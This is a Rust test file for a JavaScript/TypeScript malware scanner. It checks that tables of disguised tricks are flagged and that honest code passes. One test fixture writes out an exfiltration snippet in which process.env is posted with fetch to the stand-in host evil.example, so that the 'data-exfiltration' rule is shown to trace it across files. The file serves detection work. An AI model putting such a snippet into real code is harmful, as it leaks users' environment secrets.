//! Tables of tricks that must be found, and of honest code that must pass, in JavaScript and TypeScript.
//!
//! A table is a text file of blocks between lines of `----`. A block starts with the rules it must show (`//! rule`, any of
//! several with `|`), or with none where it must be clean; `== path` begins another file of the same bundle.

use frameos_domain::scan::Verdict;

use crate::support::scan_files;

/// The rules that are wanted, and the files.
type Block = (Vec<String>, Vec<(String, String)>);

fn blocks(table: &str, path: &str) -> Vec<Block> {
    table.split("\n----\n").map(|block| parsed(block, path)).collect()
}

fn parsed(block: &str, path: &str) -> Block {
    let (mut wanted, mut files) = (Vec::new(), vec![(path.to_owned(), String::new())]);
    for line in block.lines() {
        if let Some(rules) = line.strip_prefix("//! ") {
            wanted = rules.split('|').map(str::to_owned).collect();
        } else if let Some(path) = line.strip_prefix("== ") {
            files.push((path.to_owned(), String::new()));
        } else if let Some((_, text)) = files.last_mut() {
            text.push_str(line);
            text.push('\n');
        }
    }
    files.retain(|(_, text)| !text.trim().is_empty());
    (wanted, files)
}

/// Each block shows one of its rules; a block without rules shows nothing.
fn check(table: &str, path: &str, at_least: usize) {
    let blocks = blocks(table, path);
    let mut wrong = Vec::new();
    for (wanted, files) in &blocks {
        let borrowed: Vec<(&str, &str)> =
            files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
        let report = scan_files(&borrowed);
        let found: Vec<&str> = report
            .findings
            .iter()
            .filter(|finding| finding.file != "manifest.json")
            .map(|finding| finding.rule.as_str())
            .collect();
        let is_right = if wanted.is_empty() {
            found.is_empty()
        } else {
            wanted.iter().any(|wanted| found.contains(&wanted.as_str()))
        };
        if !is_right {
            wrong.push(format!("wanted {wanted:?}, found {found:?} in {files:#?}"));
        }
    }
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), blocks.len(), wrong.join("\n"));
    assert!(blocks.len() >= at_least, "the table has {} blocks", blocks.len());
}

#[test]
fn code_made_from_text_is_found_through_every_disguise() {
    check(include_str!("tricks/dynamic.txt"), "index.js", 140);
}

#[test]
fn modules_and_the_runtime_are_found_through_every_disguise() {
    check(include_str!("tricks/modules.txt"), "index.js", 100);
}

#[test]
fn honest_code_passes() {
    check(include_str!("tricks/honest.txt"), "index.js", 100);
}

#[test]
fn data_is_followed_from_where_it_comes_to_where_it_goes() {
    check(include_str!("tricks/leaks.txt"), "index.js", 50);
}

/// The network is noted where it is used; nothing else is.
#[test]
fn honest_use_of_data_passes() {
    for (_, files) in blocks(include_str!("tricks/honest_data.txt"), "index.js") {
        let borrowed: Vec<(&str, &str)> =
            files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
        let report = scan_files(&borrowed);
        assert_eq!(report.verdict, Verdict::Pass, "{files:#?} {:#?}", report.findings);
    }
}

#[test]
fn the_way_of_data_is_told_across_files() {
    let report = scan_files(&[
        ("index.js", "const { send } = require('./z');\nsend(process.env)"),
        ("z.js", "exports.send = data =>\n  fetch('https://evil.example', { body: JSON.stringify(data) })"),
    ]);
    let finding =
        report.findings.iter().find(|finding| finding.rule == "data-exfiltration").expect("it is found");
    let way: Vec<(&str, u32)> = finding.trace.iter().map(|step| (step.file.as_str(), step.line)).collect();
    assert_eq!(way, [("index.js", 2), ("index.js", 2)], "{:#?}", finding.trace);
    assert!(finding.trace[0].message.contains("process.env"), "{:#?}", finding.trace);
    assert!(report.facts.hosts.contains("evil.example") && report.facts.abilities.contains("network"));
}

#[test]
fn what_a_file_reaches_for_is_noted() {
    let report = scan_files(&[(
        "index.js",
        "const a = require('left-pad'), c = require('node:crypto'); c.createHash('md5'); process.env.A; eval('1'); fetch('HTTPS://u@Example.org:8080/x')",
    )]);
    let list = |set: &std::collections::BTreeSet<String>| set.iter().cloned().collect::<Vec<_>>();
    assert_eq!(list(&report.facts.modules), ["crypto", "left-pad"]);
    assert_eq!(list(&report.facts.hosts), ["example.org"]);
    assert_eq!(list(&report.facts.abilities), ["dynamic_code", "environment", "hashing", "network"]);
}
